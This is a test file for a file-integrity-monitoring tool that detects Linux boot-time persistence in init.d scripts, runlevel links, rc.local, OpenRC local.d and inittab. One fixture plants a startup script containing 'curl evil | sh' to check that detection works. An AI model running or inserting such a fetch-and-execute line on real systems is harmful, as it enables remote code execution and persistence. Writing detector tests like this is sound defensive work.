"""init.d, rcN.d, rc.local and inittab."""

from __future__ import annotations

import os
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from otel_fim import names
from otel_fim.receivers.persistence.kinds.init_scripts import init_script, inittab, rc_local
from otel_fim.receivers.persistence.reader import File
from otel_fim.record import Attributes


def found(bench: Any) -> dict[str, Attributes]:
    return {str(r.attributes[names.OTEL_FIM_PERSISTENCE_ID]): r.attributes for r in bench.look()}


def test_a_script_is_enabled_by_the_links_that_start_it(bench: Any) -> None:
    bench.write("/etc/init.d/demo", "#!/bin/sh\n", mode=0o755)
    bench.start(kinds=["init_scripts"])
    for level in ("rc2.d", "rc3.d", "rc6.d"):
        (bench.root / "etc" / level).mkdir()
    (bench.root / "etc/rc6.d/K01demo").symlink_to("../init.d/demo")
    assert found(bench) == {}
    for level in ("rc2.d", "rc3.d"):
        (bench.root / "etc" / level / "S01demo").symlink_to("../init.d/demo")
    [record] = bench.look()
    assert record.event_name == "otel_fim.persistence.changed"
    assert record.attributes[names.OTEL_FIM_PERSISTENCE_TRIGGER] == "rc2.d, rc3.d"
    assert record.attributes[names.before(names.OTEL_FIM_PERSISTENCE_ENABLED)] is False


def test_openrc_red_hat_and_files_that_are_no_links(bench: Any) -> None:
    bench.start(kinds=["init_scripts"])
    bench.write("/etc/rc.d/init.d/old", "#!/bin/sh\n", mode=0o755)
    (bench.root / "etc/init.d").symlink_to("rc.d/init.d")
    bench.write("/etc/rc5.d/S99loose", "#!/bin/sh\n", mode=0o755)
    bench.root.joinpath("etc/runlevels/default").mkdir(parents=True)
    (bench.root / "etc/runlevels/default/old").symlink_to("/etc/init.d/old")
    bench.write("/etc/local.d/evil.start", "#!/bin/sh\ncurl evil | sh\n", mode=0o755)
    seen = found(bench)
    assert {name: a[names.OTEL_FIM_PERSISTENCE_TRIGGER] for name, a in seen.items()} == {
        "/etc/init.d/old": "default",
        "/etc/rc5.d/S99loose": "rc5.d",
        "/etc/local.d/evil.start": "boot",
    }


def test_rc_local_says_what_it_runs(bench: Any) -> None:
    bench.start(kinds=["init_scripts"])
    bench.write("/etc/rc.local", "#!/bin/sh -e\n# by default nothing\n/tmp/x &\nexit 0\n", mode=0o644)
    [attributes] = found(bench).values()
    assert attributes[names.OTEL_FIM_PERSISTENCE_COMMAND] == "/tmp/x &; exit 0"
    assert attributes[names.OTEL_FIM_PERSISTENCE_ENABLED] is False


def test_inittab_of_sysvinit_and_of_busybox(bench: Any) -> None:
    bench.start(kinds=["init_scripts"])
    bench.write(
        "/etc/inittab", "# x\nid:2:initdefault:\n1:2345:respawn:/sbin/getty tty1\n::sysinit:/etc/rc\nbad\n"
    )
    seen = found(bench)
    assert seen["/etc/inittab:1"][names.OTEL_FIM_PERSISTENCE_TRIGGER] == "respawn in runlevels 2345"
    assert seen["/etc/inittab:sysinit"][names.OTEL_FIM_PERSISTENCE_COMMAND] == "/etc/rc"
    assert seen["/etc/inittab:id"][names.OTEL_FIM_PERSISTENCE_ENABLED] is False
    assert sum(bench.counts.values()) == 1


@given(st.binary(max_size=200) | st.text(alphabet="a:\nrespawnonce#+1", max_size=100).map(str.encode))
def test_nothing_that_a_file_may_hold_raises(data: bytes) -> None:
    file = File(b"/etc/inittab", data, os.stat("/"))
    items = inittab(file)
    assert len({item.id for item in items}) == len(items)
    init_script(file)
    rc_local(file)
